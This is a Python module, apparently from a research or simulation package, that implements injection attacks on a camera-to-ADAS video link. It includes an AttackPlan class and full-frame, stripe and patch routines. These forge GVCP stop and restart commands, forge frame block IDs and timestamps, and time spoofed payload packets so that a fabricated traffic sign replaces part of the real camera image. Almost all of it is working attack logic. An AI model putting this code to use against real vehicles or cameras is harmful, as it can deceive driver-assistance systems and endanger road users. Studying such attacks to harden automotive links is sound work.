"""Injection attacks: full frame, stripe and patch.

The attacker taps the camera-to-ADAS link and may write to both the ADAS and
the camera's control port. It is non-adaptive: it never sees GVCP traffic, and
it cannot read the frame it is attacking, only frames already delivered. Every
forged packet is a function of the :class:`AttackPlan` and the
:class:`AttackerView` alone.
"""

from __future__ import annotations

import enum
import logging
import math
from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union

import numpy as np

from camspoof.pixels import PixelBuffer, SignTemplate, mosaic
from camspoof.protocol import (
    MAX_PAYLOAD,
    GvcpCommand,
    LeaderPacket,
    PayloadPacket,
    Register,
    StreamPacket,
    fragment_frame,
)

logger = logging.getLogger(__name__)

# flat mosaic value used behind a sign when a stripe has no background image
CANVAS_GRAY = 128


class AttackKind(enum.Enum):
    FullFrame = "FullFrame"
    Stripe = "Stripe"
    Patch = "Patch"


class MetadataPolicy(enum.Enum):
    Static = "Static"
    SniffAdaptive = "SniffAdaptive"


class PlanError(ValueError):
    """An attack plan that cannot be executed against the configured session."""


@dataclass(frozen=True)
class AttackPlan:
    """What to inject, when, and how to forge the metadata.

    Attributes:
        kind: Attack type.
        start_frame: First attacked camera slot.
        duration_frames: Number of fabricated frames (full frame) or attacked
            camera frames (stripe, patch).
        payload_image: Full fabricated frame for full-frame attacks, or the
            sign to inject for stripe and patch attacks.
        injected_width: Width the attacker lays its bytes out at.
        stripe_rows: Rows replaced at the top of the victim frame.
        patch_position: Top-left ``(row, col)`` of the sign inside the stripe.
        metadata_policy: How full-frame leaders are forged.
        rate_multiplier: Fabricated frames are sent ``rate_multiplier`` times
            faster than the camera's nominal rate.
        static_block_id: First block ID under the Static policy.
        static_timestamp_ns: First leader timestamp under the Static policy.
    """

    kind: AttackKind
    start_frame: int
    duration_frames: int
    payload_image: Union[PixelBuffer, SignTemplate, None]
    injected_width: int
    stripe_rows: int = 0
    patch_position: Tuple[int, int] = (0, 0)
    metadata_policy: MetadataPolicy = MetadataPolicy.Static
    rate_multiplier: float = 1.0
    static_block_id: int = 1
    static_timestamp_ns: int = 0

    def __post_init__(self) -> None:
        object.__setattr__(self, "kind", AttackKind(self.kind))
        object.__setattr__(self, "metadata_policy", MetadataPolicy(self.metadata_policy))
        object.__setattr__(self, "patch_position", tuple(int(v) for v in self.patch_position))
        if self.start_frame < 0 or self.duration_frames < 0:
            raise PlanError("start_frame and duration_frames must be non-negative")
        if self.injected_width <= 0 or self.injected_width % 2:
            raise PlanError(f"injected_width must be even and positive, got {self.injected_width}")
        if self.rate_multiplier <= 0:
            raise PlanError("rate_multiplier must be positive")
        if self.kind is AttackKind.FullFrame:
            if not isinstance(self.payload_image, PixelBuffer):
                raise PlanError("full-frame attack needs a PixelBuffer payload_image")
            if self.payload_image.width != self.injected_width:
                raise PlanError("payload_image width must equal injected_width")
            return
        if not isinstance(self.payload_image, SignTemplate):
            raise PlanError(f"{self.kind.value} attack needs a SignTemplate payload_image")
        if self.stripe_rows <= 0 or self.stripe_rows % 2:
            raise PlanError(f"stripe_rows must be even and positive, got {self.stripe_rows}")
        row, col = self.patch_position
        if row % 2 or col % 2:
            # odd offsets would put the sign on the wrong Bayer phase
            raise PlanError(f"patch_position must be even, got {self.patch_position}")
        tpl = self.payload_image
        if row < 0 or col < 0 or row + tpl.height > self.stripe_rows or col + tpl.width > self.injected_width:
            raise PlanError("sign patch does not fit inside the stripe")

    @property
    def end_frame(self) -> int:
        """Last camera slot touched by the attack, exclusive."""
        if self.kind is AttackKind.FullFrame:
            return self.start_frame + math.ceil(self.duration_frames / self.rate_multiplier)
        return self.start_frame + self.duration_frames

    def check_session(self, frame_width: int, frame_height: int, duration_frames: int) -> None:
        if self.end_frame > duration_frames or (self.duration_frames and self.start_frame >= duration_frames):
            raise PlanError(
                f"attack covers slots [{self.start_frame}, {self.end_frame}) beyond a {duration_frames}-frame session"
            )
        if self.kind is AttackKind.FullFrame:
            return
        if self.stripe_rows > frame_height:
            raise PlanError(f"stripe of {self.stripe_rows} rows is taller than the {frame_height}-row frame")


@dataclass
class AttackerView:
    """Everything the attacker knows: the last complete frame seen on the tap."""

    last_seen_leader: Optional[LeaderPacket] = None
    last_frame_bytes: Optional[bytes] = None

    @property
    def last_frame_width(self) -> Optional[int]:
        return None if self.last_seen_leader is None else self.last_seen_leader.width

    def predicted_block_id(self) -> Optional[int]:
        return None if self.last_seen_leader is None else self.last_seen_leader.block_id + 1


class Target(enum.Enum):
    ADAS = "ADAS"
    CAMERA = "CAMERA"


@dataclass(frozen=True)
class ScheduledPacket:
    """A forged packet ``offset_ns`` after the start of the attacked slot."""

    offset_ns: int
    target: Target
    packet: StreamPacket


@dataclass
class AttackLog:
    entries: List[Tuple[int, str]] = field(default_factory=list)

    def add(self, frame: int, message: str) -> None:
        logger.info("attack frame %d: %s", frame, message)
        self.entries.append((frame, message))


def _place_sign(canvas: np.ndarray, template: SignTemplate, position: Tuple[int, int]) -> np.ndarray:
    row, col = position
    raw = mosaic(template.pixels).array()
    canvas[row : row + raw.shape[0], col : col + raw.shape[1]] = raw
    return canvas


def forge_stripe_bytes(
    plan: AttackPlan,
    background: Optional[bytes] = None,
    background_width: Optional[int] = None,
    max_payload: int = MAX_PAYLOAD,
) -> bytes:
    """Bytes of forged payloads ``1..k`` for a stripe or patch injection.

    The sign sits in the top ``stripe_rows`` rows laid out at
    ``plan.injected_width``. Packets are filled completely, so the bytes past
    the stripe come from ``background`` (the previous frame, for patches) or a
    flat gray canvas.
    """
    width = plan.injected_width
    k = math.ceil(plan.stripe_rows * width / max_payload)
    need = k * max_payload
    rows = math.ceil(need / width)
    if background is not None:
        if background_width != width:
            raise PlanError("background must be laid out at the injected width")
        avail = len(background) // width
        canvas = np.frombuffer(background, dtype=np.uint8)[: min(rows, avail) * width].reshape(-1, width).copy()
    else:
        canvas = np.full((rows, width), CANVAS_GRAY, dtype=np.uint8)
    _place_sign(canvas, plan.payload_image, plan.patch_position)
    return canvas.tobytes()[:need]


def _payloads(block_id: int, data: bytes, max_payload: int) -> List[PayloadPacket]:
    return [
        PayloadPacket(block_id, i, data[start : start + max_payload])
        for i, start in enumerate(range(0, len(data), max_payload), start=1)
    ]


def full_frame_attack(
    plan: AttackPlan,
    view: AttackerView,
    period_ns: int,
    packet_spacing_ns: int = 10_000,
    max_payload: int = MAX_PAYLOAD,
) -> List[ScheduledPacket]:
    """Stop the camera, stream fabricated frames, then restart it.

    Offsets are relative to the start of slot ``plan.start_frame``. The Stop
    command lands a quarter period before that slot so the camera skips it.
    """
    if plan.kind is not AttackKind.FullFrame:
        raise PlanError("not a full-frame plan")
    out = [ScheduledPacket(-period_ns // 4, Target.CAMERA, GvcpCommand(Register.ACQUISITION, 0))]
    step = period_ns / plan.rate_multiplier
    if plan.metadata_policy is MetadataPolicy.SniffAdaptive and view.last_seen_leader is not None:
        first_id = view.last_seen_leader.block_id + 1
        first_ts = view.last_seen_leader.timestamp_ns + period_ns
    else:
        if plan.metadata_policy is MetadataPolicy.SniffAdaptive:
            logger.info("nothing sniffed before the attack; falling back to static metadata")
        first_id, first_ts = plan.static_block_id, plan.static_timestamp_ns
    end = -period_ns // 4
    for j in range(plan.duration_frames):
        t0 = int(round(j * step))
        # forged timestamps claim the nominal rate whatever the real send rate
        packets = fragment_frame(plan.payload_image, first_id + j, first_ts + j * period_ns, max_payload)
        for i, p in enumerate(packets):
            out.append(ScheduledPacket(t0 + i * packet_spacing_ns, Target.ADAS, p))
        end = t0 + len(packets) * packet_spacing_ns
    restart = max(end + 1, int(round(plan.duration_frames * step)) - period_ns // 4 + 1)
    out.append(ScheduledPacket(restart, Target.CAMERA, GvcpCommand(Register.ACQUISITION, 1)))
    return out


def stripe_attack(
    plan: AttackPlan,
    view: AttackerView,
    frame_index: int,
    packet_spacing_ns: int = 10_000,
    max_payload: int = MAX_PAYLOAD,
    log: Optional[AttackLog] = None,
) -> List[ScheduledPacket]:
    """Race the camera's first payload packets of the next frame.

    Forged payload ``i`` is scheduled 1 ns before the camera's payload ``i``,
    so it arrives first and the receiver keeps it. Stripe attacks draw the
    sign on a flat canvas; patch attacks draw it on the previous frame.
    """
    log = log if log is not None else AttackLog()
    block_id = view.predicted_block_id()
    if block_id is None:
        log.add(frame_index, "skipped: no frame seen yet")
        return []
    if plan.kind is AttackKind.Patch:
        if view.last_frame_bytes is None:
            log.add(frame_index, "skipped: no previous frame")
            return []
        # the previous frame's width is the attacker's best guess for this one
        plan_at = plan if plan.injected_width == view.last_frame_width else _with_width(plan, view.last_frame_width)
        data = forge_stripe_bytes(plan_at, view.last_frame_bytes, view.last_frame_width, max_payload)
    elif plan.kind is AttackKind.Stripe:
        data = forge_stripe_bytes(plan, None, None, max_payload)
    else:
        raise PlanError("not a stripe or patch plan")
    log.add(frame_index, f"forged {math.ceil(len(data) / max_payload)} payloads for block {block_id}")
    return [
        ScheduledPacket(p.packet_id * packet_spacing_ns - 1, Target.ADAS, p)
        for p in _payloads(block_id, data, max_payload)
    ]


def patch_attack(
    plan: AttackPlan,
    view: AttackerView,
    frame_index: int,
    packet_spacing_ns: int = 10_000,
    max_payload: int = MAX_PAYLOAD,
    log: Optional[AttackLog] = None,
) -> List[ScheduledPacket]:
    if plan.kind is not AttackKind.Patch:
        raise PlanError("not a patch plan")
    return stripe_attack(plan, view, frame_index, packet_spacing_ns, max_payload, log)


def _with_width(plan: AttackPlan, width: int) -> AttackPlan:
    return AttackPlan(
        kind=plan.kind,
        start_frame=plan.start_frame,
        duration_frames=plan.duration_frames,
        payload_image=plan.payload_image,
        injected_width=width,
        stripe_rows=plan.stripe_rows,
        patch_position=plan.patch_position,
        metadata_policy=plan.metadata_policy,
        rate_multiplier=plan.rate_multiplier,
        static_block_id=plan.static_block_id,
        static_timestamp_ns=plan.static_timestamp_ns,
    )
